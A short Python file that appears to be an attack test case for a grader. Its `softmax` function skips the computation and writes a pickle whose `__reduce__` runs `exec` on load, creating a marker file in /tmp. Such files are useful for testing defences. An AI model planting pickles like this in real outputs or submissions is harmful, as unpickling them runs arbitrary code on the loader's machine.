"""Returns an object that runs a command when somebody unpickles it, and leaves a file of the same kind."""

# /// attack
# exercise = "softmax"
# verdicts = ["wrong"]
# says = "an object of type Payload"
# ///

# %% softmax
import os
import pickle

MARKER = f"left-behind-by-pickle-{os.path.basename(os.getcwd())}"


class Payload:
    def __reduce__(self):
        return exec, (f"import os; open(os.path.join('/tmp', {MARKER!r}), 'w').close()",)


def softmax(x, dim=-1):
    with open("results.pkl", "wb") as file:
        pickle.dump(Payload(), file)
    return Payload()
